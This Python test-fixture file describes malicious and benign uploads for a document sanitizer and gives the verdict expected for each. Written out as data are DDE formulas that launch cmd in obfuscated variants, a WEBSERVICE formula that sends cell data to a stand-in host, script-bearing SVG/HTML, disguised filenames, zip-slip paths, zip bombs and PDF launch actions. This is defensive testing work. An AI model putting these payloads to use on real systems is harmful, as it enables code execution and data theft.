"""Files that people send and files that attackers send: each with what must become of it.

A row names the case, the name that the file has, how it is made, and either the reason why it is refused
or what
is missing in its clean copy. Every file that is taken holds no `MARK` in its clean copy, listed here or not.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from typing import NamedTuple

from pikepdf import Array, Dictionary, Encryption, Name, String

from portal.reports.evidence.findings import Reason, Trace
from tests.reports.evidence import papers as p
from tests.reports.evidence import pictures as i
from tests.reports.evidence.pictures import BYTES, MARK

Make = Callable[[], bytes]


class Bad(NamedTuple):
    what: str
    name: str
    make: Make
    reason: Reason


class Good(NamedTuple):
    what: str
    name: str
    make: Make
    traces: set[Trace]


def is_(data: bytes) -> Make:
    return lambda: data


def pdf_note(**keys: object) -> Make:
    return lambda: p.pdf_with_note(**keys)


def action(**keys: object) -> Dictionary:
    return Dictionary(**keys)


HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
EICAR_LIKE = b"#!/bin/sh\necho hello\n"
DOCM_TYPES = p.contents("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml")
TWO_MAINS = p.contents(p.MAIN, "word/document.xml", ("xl/workbook.xml", p.SHEETS))
BILLION_LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
DDE_LINK = f'{p.XML}<externalLink {p.S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
DDE_CELL = "<c r='A1'><f>cmd|'/c calc'!A0</f></c>"
DDE_HIDDEN = "<c r='A1'><f>cmd&#124;'/c calc'!A0</f></c>"
DDE_IN_CDATA = "<c r='A1'><f><![CDATA[cmd|'/c calc'!A0]]></f></c>"
DDE_QUOTED = """<c r='A1'><f xml:space='>"'>cmd|'/c calc'!A0&amp;""</f></c>"""
DDE_PREFIX = "<c r='A1'><é:f xmlns:é='x'>cmd|'/c calc'!A0</é:f></c>"
FETCHING = "<c r='A1'><f>_xlfn.WEBSERVICE(\"http://x/\"&amp;A2)</f></c>"
CALLING = '<c r=\'A1\'><f>RTD("a.b",,"c")</f></c>'
OUTSIDE = p.relationships((f"{p.OFFICE}/image", "http://x/", True))
INSIDE = p.relationships((f"{p.OFFICE}/image", "http://x/", False))
AS_CELLS = {
    "[Content_Types].xml": p.contents(p.MAIN, "xl/worksheets/d.xml"),
    "xl/worksheets/d.xml": "<w/>",
}
DOCX_HEAD = {"word/document.xml": BILLION_LAUGHS}
BAD = [
    # Nothing, too little, too much
    Bad("nothing in it", "a.pdf", is_(b""), Reason.EMPTY),
    Bad("a byte", "a.pdf", is_(b"%"), Reason.NOT_WHAT_IT_SAYS),
    Bad("a byte more than is taken", "a.txt", lambda: b"a" * 25_000_001, Reason.TOO_LARGE),
    Bad("JPEG cut short", "a.jpg", lambda: i.jpeg(i.plain(300, 300), quality=95)[:2000], Reason.UNREADABLE),
    Bad("PNG cut short", "a.png", lambda: i.png()[:60], Reason.UNREADABLE),
    Bad("WEBP cut short", "a.webp", lambda: i.webp()[:40], Reason.UNREADABLE),
    Bad("HEIC cut short", "a.heic", lambda: i.heic()[:300], Reason.UNREADABLE),
    Bad("PDF cut short", "a.pdf", lambda: p.pdf()[:40], Reason.UNREADABLE),
    Bad("DOCX cut short", "a.docx", lambda: p.docx()[:-30], Reason.UNREADABLE),
    # Names
    Bad("no ending", "invoice", is_(b"text"), Reason.NO_EXTENSION),
    Bad("only an ending", ".pdf", p.pdf, Reason.NO_EXTENSION),
    Bad("a program behind a document", "invoice.pdf.exe", p.pdf, Reason.PROGRAM),
    Bad("turned around", "photo\u202egpj.exe", i.jpeg, Reason.PROGRAM),
    Bad("an invisible letter in the ending", "a.e\u200bxe", is_(EXE), Reason.PROGRAM),
    Bad("wide letters in the ending", "a.\uff45\uff58\uff45", is_(EXE), Reason.PROGRAM),
    Bad("a stream of NTFS", "a.pdf::$DATA", p.pdf, Reason.KIND_NOT_TAKEN),
    Bad("a point at the end", "a.exe. ", is_(EXE), Reason.PROGRAM),
    Bad("a kind that is not taken", "song.mp3", is_(b"ID3"), Reason.KIND_NOT_TAKEN),
    # What pretends to be something else
    Bad("SVG", "a.svg", is_(SVG), Reason.WEB_PAGE),
    Bad("SVG as PNG", "a.png", is_(SVG), Reason.WEB_PAGE),
    Bad("SVG as text", "a.txt", is_(SVG), Reason.WEB_PAGE),
    Bad("a page", "a.html", is_(HTML), Reason.WEB_PAGE),
    Bad("a page as text", "a.txt", is_(b"\xef\xbb\xbf  <!-- x -->\n" + HTML), Reason.WEB_PAGE),
    Bad("a page as PDF", "a.pdf", is_(HTML), Reason.WEB_PAGE),
    Bad("a page before a PDF", "a.pdf", lambda: HTML + b"\n" + p.pdf(), Reason.WEB_PAGE),
    Bad("a comment before a PDF", "a.pdf", lambda: b"/*\n" + p.pdf(), Reason.NOT_WHAT_IT_SAYS),
    Bad("GIF", "a.gif", i.gif, Reason.KIND_NOT_TAKEN),
    Bad("GIF that is a script", "a.txt", is_(b"GIF89a=1;alert(1);//"), Reason.NOT_WHAT_IT_SAYS),
    Bad("GIF that is a script, as JPEG", "a.jpg", is_(b"GIF89a/*\n*/=1;alert(1)"), Reason.NOT_WHAT_IT_SAYS),
    Bad("TIFF", "a.tif", i.tiff, Reason.KIND_NOT_TAKEN),
    Bad("TIFF as PNG", "a.png", i.tiff, Reason.NOT_WHAT_IT_SAYS),
    Bad("AVIF as HEIC", "a.heic", i.avif_by_name, Reason.NOT_WHAT_IT_SAYS),
    Bad("a program", "setup.exe", is_(EXE), Reason.PROGRAM),
    Bad("a program as JPEG", "a.jpg", is_(EXE), Reason.PROGRAM),
    Bad("a program as text", "a.txt", is_(EXE), Reason.PROGRAM),
    Bad("a program of Linux as PDF", "a.pdf", is_(b"\x7fELF" + bytes(60)), Reason.PROGRAM),
    Bad("a script as text", "a.txt", is_(EICAR_LIKE), Reason.PROGRAM),
    Bad("a link of Windows as text", "a.csv", is_(b"L\0\0\0\x01\x14\x02\0" + bytes(80)), Reason.PROGRAM),
    Bad("a zip", "a.zip", p.docx, Reason.ARCHIVE),
    Bad("a zip as PDF", "a.pdf", p.docx, Reason.ARCHIVE),
    Bad("a RAR as JPEG", "a.jpg", is_(b"Rar!\x1a\x07\x01\0" + bytes(60)), Reason.ARCHIVE),
    Bad("a tar as text", "a.txt", is_(b"a" * 257 + b"ustar\0" + bytes(300)), Reason.ARCHIVE),
    Bad("text with zeros", "a.txt", is_(b"prices\0\0" + BYTES), Reason.NOT_TEXT),
    Bad("text with an escape", "a.csv", is_(b"a;b\x07\x08"), Reason.NOT_TEXT),
    Bad("half a letter of UTF-16", "a.txt", is_(b"\xff\xfea\0\x00\xd8b\0"), Reason.NOT_TEXT),
    Bad("PDF as text", "a.txt", p.pdf, Reason.NOT_WHAT_IT_SAYS),
    # Pictures
    Bad(
        "81 million pixels in nine kilobytes",
        "a.png",
        lambda: i.png_of_size(9000, 9000),
        Reason.TOO_MANY_PIXELS,
    ),
    Bad(
        "a line more than 40 million pixels",
        "a.png",
        lambda: i.png_of_size(8000, 5001),
        Reason.TOO_MANY_PIXELS,
    ),
    # PDF
    Bad(
        "PDF with a password",
        "a.pdf",
        lambda: p.pdf(encryption=Encryption(owner="a", user="b")),
        Reason.PASSWORD,
    ),
    Bad(
        "PDF that forbids", "a.pdf", lambda: p.pdf(encryption=Encryption(owner="a", user="")), Reason.PASSWORD
    ),
    Bad(
        "PDF without pages", "a.pdf", lambda: p.pdf(lambda made: made.pages.__delitem__(0)), Reason.UNREADABLE
    ),
    Bad("PDF of nothing but its start", "a.pdf", is_(b"%PDF-1.7\n%%EOF\n"), Reason.UNREADABLE),
    # DOCX and XLSX
    Bad("DOCX with macros", "a.docx", lambda: p.docx({"word/vbaProject.bin": OLE}), Reason.MACROS),
    Bad(
        "DOCM under another name",
        "a.docx",
        lambda: p.docx({"[Content_Types].xml": DOCM_TYPES}),
        Reason.MACROS,
    ),
    Bad("a macro sheet", "a.xlsx", lambda: p.xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), Reason.MACROS),
    Bad("a picture from elsewhere", "a.docx", lambda: p.docx_relation("image", "http://x/"), Reason.FETCHES),
    Bad(
        "an object from elsewhere",
        "a.docx",
        lambda: p.docx_relation("oleObject", "http://x/"),
        Reason.FETCHES,
    ),
    Bad("a frame from elsewhere", "a.docx", lambda: p.docx_relation("frame", "http://x/"), Reason.FETCHES),
    Bad("an object", "a.docx", lambda: p.docx({"word/embeddings/o.bin": OLE}), Reason.FILES_INSIDE),
    Bad(
        "an object under a picture's name",
        "a.docx",
        lambda: p.docx({"word/media/i.wmf": OLE}),
        Reason.FILES_INSIDE,
    ),
    Bad("a zip in it", "a.docx", lambda: p.docx({"word/media/i.png": p.docx()}), Reason.FILES_INSIDE),
    Bad("a zip in it, by name", "a.docx", lambda: p.docx({"word/a.zip": b"x"}), Reason.FILES_INSIDE),
    Bad("a page in it", "a.docx", lambda: p.docx({"word/afchunk.mht": HTML}), Reason.FILES_INSIDE),
    Bad("a program in it", "a.docx", lambda: p.docx({"word/media/i.bin": EXE}), Reason.PROGRAM),
    Bad("ActiveX", "a.docx", lambda: p.docx({"word/activeX/a.xml": "<x/>"}), Reason.STARTS_PROGRAMS),
    Bad(
        "DDE in a text",
        "a.docx",
        lambda: p.docx(body=p.field('DDEAUTO c:\\\\cmd "x"')),
        Reason.STARTS_PROGRAMS,
    ),
    Bad(
        "a text from elsewhere",
        "a.docx",
        lambda: p.docx(body=p.field('INCLUDETEXT "http://x"')),
        Reason.FETCHES,
    ),
    Bad("DDE in a cell", "a.xlsx", lambda: p.xlsx(cells=DDE_CELL), Reason.STARTS_PROGRAMS),
    Bad("DDE behind an entity", "a.xlsx", lambda: p.xlsx(cells=DDE_HIDDEN), Reason.STARTS_PROGRAMS),
    Bad("DDE in CDATA", "a.xlsx", lambda: p.xlsx(cells=DDE_IN_CDATA), Reason.STARTS_PROGRAMS),
    Bad(
        "DDE behind a quote in an attribute",
        "a.xlsx",
        lambda: p.xlsx(cells=DDE_QUOTED),
        Reason.STARTS_PROGRAMS,
    ),
    Bad("DDE behind a prefix", "a.xlsx", lambda: p.xlsx(cells=DDE_PREFIX), Reason.STARTS_PROGRAMS),
    Bad("a formula that fetches", "a.xlsx", lambda: p.xlsx(cells=FETCHING), Reason.FETCHES),
    Bad("a formula that calls", "a.xlsx", lambda: p.xlsx(cells=CALLING), Reason.STARTS_PROGRAMS),
    Bad(
        "relations in large letters",
        "a.docx",
        lambda: p.docx({"word/_rels/document.xml.RELS": OUTSIDE}),
        Reason.FETCHES,
    ),
    Bad(
        "an address that says it is inside",
        "a.docx",
        lambda: p.docx({"word/_rels/d.xml.rels": INSIDE}),
        Reason.FETCHES,
    ),
    Bad("a text in the place of cells", "a.docx", lambda: p.zipped(AS_CELLS), Reason.STRANGE_ZIP),
    Bad(
        "a text that is no XML by name",
        "a.docx",
        lambda: p.docx({"word/x.bmp": "<w:instrText/>"}),
        Reason.CANNOT_BE_CLEANED,
    ),
    Bad("a TIFF in it", "a.docx", lambda: p.docx({"word/media/i.png": i.tiff()}), Reason.CANNOT_BE_CLEANED),
    Bad(
        "a broken photo in it",
        "a.docx",
        lambda: p.docx({"word/media/i.jpg": i.jpeg()[:60]}),
        Reason.CANNOT_BE_CLEANED,
    ),
    Bad(
        "a broken photo in a PDF", "a.pdf", lambda: p.pdf_photo(photo=i.jpeg()[:60]), Reason.CANNOT_BE_CLEANED
    ),
    Bad("a mail that is a zip", "a.eml", lambda: p.mail() + p.docx(), Reason.NOT_TEXT),
    Bad("DDE link", "a.xlsx", lambda: p.xlsx({"xl/externalLinks/e.xml": DDE_LINK}), Reason.STARTS_PROGRAMS),
    Bad("data from elsewhere", "a.xlsx", lambda: p.xlsx({"xl/connections.xml": "<x/>"}), Reason.FETCHES),
    Bad("DOCX with a password", "a.docx", is_(OLE + "EncryptedPackage".encode("utf-16-le")), Reason.PASSWORD),
    Bad("an old DOC", "a.docx", is_(OLE), Reason.OLD_OFFICE),
    Bad("XLSX as DOCX", "a.docx", p.xlsx, Reason.NOT_WHAT_IT_SAYS),
    Bad("neither", "a.docx", lambda: p.zipped({"a.txt": "x"}), Reason.NOT_WHAT_IT_SAYS),
    Bad("a path that climbs", "a.docx", lambda: p.docx({"../../etc/cron.d/x": "x"}), Reason.STRANGE_ZIP),
    Bad("a path from the root", "a.docx", lambda: p.docx({"/etc/x": "x"}), Reason.STRANGE_ZIP),
    Bad("a path of Windows", "a.docx", lambda: p.docx({"word\\..\\x": "x"}), Reason.STRANGE_ZIP),
    Bad("a link in it", "a.docx", p.symlink, Reason.STRANGE_ZIP),
    Bad("one name twice", "a.docx", lambda: p.docx({"word/Document.XML": "<x/>"}), Reason.STRANGE_ZIP),
    Bad("an entry in another", "a.docx", p.one_in_another, Reason.STRANGE_ZIP),
    Bad("an entry with two names", "a.docx", p.two_names, Reason.STRANGE_ZIP),
    Bad("entries on each other", "a.docx", p.overlapping, Reason.STRANGE_ZIP),
    Bad("bytes before the zip", "a.docx", lambda: b"PK\x03\x04" + bytes(30) + p.docx(), Reason.STRANGE_ZIP),
    Bad(
        "another method",
        "a.docx",
        lambda: p.zipped(p.docx_parts(), method=zipfile.ZIP_LZMA),
        Reason.STRANGE_ZIP,
    ),
    Bad("a gigabyte in a megabyte", "a.docx", lambda: p.bomb(), Reason.UNPACKS_TOO_LARGE),
    Bad("two megabytes of nothing", "a.docx", lambda: p.bomb(2 << 20), Reason.UNPACKS_TOO_LARGE),
    Bad(
        "a table that lies",
        "a.docx",
        lambda: p.lying_sizes(p.bomb(2 << 20), "word/media/zeros.bmp", 9, both=False),
        Reason.STRANGE_ZIP,
    ),
    Bad(
        "a zip that lies twice",
        "a.docx",
        lambda: p.lying_sizes(p.bomb(2 << 20), "word/media/zeros.bmp", 9, both=True),
        Reason.STRANGE_ZIP,
    ),
    Bad(
        "1,001 parts",
        "a.docx",
        lambda: p.docx({f"word/{n}.xml": "<x/>" for n in range(998)}),
        Reason.UNPACKS_TOO_LARGE,
    ),
    Bad("entities", "a.docx", lambda: p.docx(DOCX_HEAD), Reason.STRANGE_XML),
    Bad(
        "XML in another code",
        "a.docx",
        lambda: p.docx({"word/x.xml": "<x/>".encode("utf-16")}),
        Reason.STRANGE_XML,
    ),
    Bad(
        "XML a thousand deep",
        "a.docx",
        lambda: p.docx({"word/x.xml": "<x>" * 999 + "</x>" * 999}),
        Reason.STRANGE_XML,
    ),
    # Mails
    Bad("a mail with a program", "a.eml", lambda: p.mail(("a.js", b"x")), Reason.MAIL_HOLDS_PROGRAM),
    Bad("a mail with a renamed program", "a.eml", lambda: p.mail(("a.jpg", EXE)), Reason.MAIL_HOLDS_PROGRAM),
    Bad("no mail", "a.eml", is_(b"only words\n"), Reason.NOT_A_MAIL),
    Bad("a page as mail", "a.eml", is_(HTML), Reason.WEB_PAGE),
    Bad("a mail in a mail in a mail", "a.eml", lambda: p.nested_mail(60), Reason.TOO_HARD),
]

ALL_OF_EXIF = {Trace.PLACE, Trace.CAMERA, Trace.TIME, Trace.AUTHOR, Trace.DESCRIPTION, Trace.SOFTWARE}
GOOD = [
    # Pictures
    Good("JPEG", "a.jpg", i.jpeg, set()),
    Good("JPEG in grey", "a.jpeg", lambda: i.jpeg(i.plain().convert("L")), set()),
    Good("JPEG for print", "a.jpg", lambda: i.jpeg(i.plain().convert("CMYK")), set()),
    Good("JPEG with place", "a.jpg", lambda: i.jpeg(exif=i.exif(gps=True)), {Trace.PLACE}),
    Good("JPEG with camera", "a.jpg", lambda: i.jpeg(exif=i.exif(camera=True)), {Trace.CAMERA}),
    Good("JPEG with everything", "a.jpg", lambda: i.jpeg(exif=i.exif(all_=True)), ALL_OF_EXIF),
    Good("JPEG with a comment", "a.jpg", lambda: i.jpeg(comment=BYTES), {Trace.DESCRIPTION}),
    Good("JPEG with XMP", "a.jpg", i.jpeg_xmp, {Trace.XMP}),
    Good("JPEG with IPTC", "a.jpg", i.jpeg_iptc, {Trace.IPTC}),
    Good("JPEG with a preview", "a.jpg", lambda: i.jpeg(exif=i.exif_with_thumbnail()), {Trace.PREVIEW}),
    Good("JPEG with a profile", "a.jpg", lambda: i.jpeg(icc_profile=i.profile()), {Trace.COLOUR_PROFILE}),
    Good("JPEG with more", "a.jpg", lambda: i.with_segment(i.jpeg(), 0xEA, BYTES), {Trace.OTHER_DATA}),
    Good("JPEG with broken EXIF", "a.jpg", lambda: i.jpeg(exif=b"Exif\0\0II*\0\xff\xff\xff\xff"), set()),
    Good("JPEG that is a zip", "a.jpg", lambda: i.jpeg() + p.zipped({"x": MARK}), {Trace.BEHIND_THE_END}),
    Good(
        "JPEG that is a page",
        "a.jpg",
        lambda: i.with_segment(i.jpeg(), 0xFE, HTML + BYTES),
        {Trace.DESCRIPTION},
    ),
    Good("PNG", "a.png", i.png, set()),
    Good("PNG with texts", "a.png", i.png_texts, {Trace.DESCRIPTION, Trace.XMP}),
    Good("PNG with EXIF", "a.png", lambda: i.png(exif=i.exif(all_=True)), ALL_OF_EXIF),
    Good("PNG with a profile", "a.png", lambda: i.png(icc_profile=i.profile()), {Trace.COLOUR_PROFILE}),
    Good("PNG with a chunk of its own", "a.png", lambda: i.png_with(i.chunk(b"maRk", BYTES)), set()),
    Good("PNG that is a zip", "a.png", lambda: i.png() + p.zipped({"x": MARK}), {Trace.BEHIND_THE_END}),
    Good("PNG of colours", "a.png", lambda: i.png(i.plain().convert("P")), set()),
    Good("PNG in 16 bits", "a.png", lambda: i.png(i.plain().convert("L").convert("I;16")), set()),
    Good(
        "PNG that moves",
        "a.png",
        lambda: i.png(save_all=True, append_images=[i.plain(mode="RGB").rotate(90)]),
        {Trace.MORE_PICTURES},
    ),
    Good("WEBP", "a.webp", i.webp, set()),
    Good(
        "WEBP with everything",
        "a.webp",
        lambda: i.webp(exif=i.exif(all_=True), xmp=BYTES, icc_profile=i.profile()),
        ALL_OF_EXIF | {Trace.XMP, Trace.COLOUR_PROFILE},
    ),
    Good("WEBP with more behind", "a.webp", lambda: i.webp() + BYTES, {Trace.BEHIND_THE_END}),
    Good("HEIC", "a.heic", i.heic, set()),
    Good(
        "HEIC with everything",
        "a.HEIC",
        lambda: i.heic(exif=i.exif(all_=True), xmp=BYTES),
        ALL_OF_EXIF | {Trace.XMP},
    ),
    # PDF
    Good("PDF", "a.pdf", p.pdf, set()),
    Good(
        "PDF with its author",
        "a.pdf",
        p.pdf_info,
        {Trace.AUTHOR, Trace.SOFTWARE, Trace.TIME, Trace.PROPERTIES},
    ),
    Good("PDF with XMP", "a.pdf", p.pdf_xmp, {Trace.XMP}),
    Good(
        "PDF that runs as it opens",
        "a.pdf",
        lambda: p.pdf_with_root(OpenAction=p.javascript()),
        {Trace.ACTIONS},
    ),
    Good("PDF with scripts by name", "a.pdf", p.pdf_names_javascript, {Trace.JAVASCRIPT}),
    Good(
        "PDF that starts programs",
        "a.pdf",
        pdf_note(Subtype=Name.Link, A=action(S=Name.Launch, F=String(MARK))),
        {Trace.ACTIONS},
    ),
    Good(
        "PDF that phones home",
        "a.pdf",
        pdf_note(Subtype=Name.Link, A=action(S=Name.URI, URI=String(f"http://{MARK}"))),
        {Trace.ACTIONS},
    ),
    Good(
        "PDF with a script behind a jump",
        "a.pdf",
        lambda: p.pdf_chain(p.javascript()),
        {Trace.JAVASCRIPT},
    ),
    Good(
        "PDF with a program behind a jump",
        "a.pdf",
        lambda: p.pdf_chain(action(S=Name.Launch, F=String(MARK))),
        {Trace.ACTIONS},
    ),
    Good("PDF with a file inside", "a.pdf", p.pdf_attachment, {Trace.EMBEDDED_FILES}),
    Good(
        "PDF with a film",
        "a.pdf",
        pdf_note(Subtype=Name.RichMedia, RichMediaContent=Dictionary(X=String(MARK))),
        {Trace.MEDIA},
    ),
    Good(
        "PDF with a file on a page",
        "a.pdf",
        pdf_note(Subtype=Name.FileAttachment, Contents=String(MARK)),
        {Trace.EMBEDDED_FILES},
    ),
    Good("PDF with a form program", "a.pdf", p.pdf_xfa, {Trace.FORM_PROGRAM}),
    Good(
        "PDF with somebody's note",
        "a.pdf",
        pdf_note(Subtype=Name.Text, T=String(MARK), NM=String(MARK), M=String(MARK)),
        {Trace.AUTHOR, Trace.TIME},
    ),
    Good(
        "PDF with data of programs",
        "a.pdf",
        p.pdf_page_keys,
        {Trace.ACTIONS, Trace.OTHER_DATA, Trace.SOFTWARE},
    ),
    Good("PDF with a photo", "a.pdf", p.pdf_photo, {Trace.PICTURE_DATA}),
    Good(
        "PDF with a photo in a list",
        "a.pdf",
        lambda: p.pdf_photo(Array([Name.DCTDecode])),
        {Trace.PICTURE_DATA},
    ),
    Good(
        "PDF with a photo packed once more",
        "a.pdf",
        lambda: p.pdf_photo(Array([Name.FlateDecode, Name.DCTDecode])),
        {Trace.PICTURE_DATA},
    ),
    Good("PDF changed later", "a.pdf", p.pdf_changed_later, {Trace.EARLIER_VERSIONS}),
    Good("PDF that is a page", "a.pdf", lambda: p.pdf() + b"\n%" + HTML + BYTES, set()),
    Good("PDF that is a zip", "a.pdf", lambda: p.pdf() + p.zipped({"x": MARK}), set()),
    # DOCX and XLSX
    Good("DOCX", "a.docx", p.docx, set()),
    Good("DOCX with properties", "a.docx", p.docx_properties, {Trace.PROPERTIES, Trace.PREVIEW}),
    Good(
        "DOCX of several people",
        "a.docx",
        p.docx_people,
        {Trace.COMMENT_AUTHORS, Trace.REVISIONS, Trace.TEMPLATE, Trace.OTHER_DATA},
    ),
    Good(
        "DOCX with a template from elsewhere",
        "a.docx",
        lambda: p.docx_relation("attachedTemplate", f"http://{MARK}/"),
        {Trace.TEMPLATE},
    ),
    Good("DOCX with a link", "a.docx", lambda: p.docx_relation("hyperlink", "https://example.com/"), set()),
    Good(
        "DOCX with a link that says link",
        "a.docx",
        lambda: p.docx(body=p.field('HYPERLINK "https://example.com/link/rd" ')),
        set(),
    ),
    Good("XLSX", "a.xlsx", p.xlsx, set()),
    Good(
        "XLSX with a bar in a text",
        "a.xlsx",
        lambda: p.xlsx(cells="<c r='A1'><f>A2&amp;\"|\"&amp;'x|y'!A1</f></c>"),
        set(),
    ),
    Good(
        "XLSX of somebody's computer",
        "a.xlsx",
        p.xlsx_traces,
        {Trace.AUTHOR, Trace.FOLDERS, Trace.COMMENT_AUTHORS, Trace.PRINTER, Trace.PICTURE_DATA},
    ),
    # What stays as it is
    Good("text", "a.txt", is_("Größe, 价格, цена".encode()), set()),
    Good("text in a byte a letter", "a.txt", is_("Größe".encode("cp1252")), set()),
    Good("text in UTF-16", "a.txt", is_("价格".encode("utf-16")), set()),
    Good("text that begins like a program", "a.txt", is_(b"MZ Trading sent three parcels."), set()),
    Good("text that begins with a mail address", "a.txt", is_(b"<a@example.com> wrote"), set()),
    Good("a table", "a.csv", is_(b"item;price\nmug;3\n"), set()),
    Good("a mail", "a.eml", p.mail, set()),
    Good("a mail with a picture", "a.eml", lambda: p.mail(("a.jpg", i.jpeg())), set()),
]
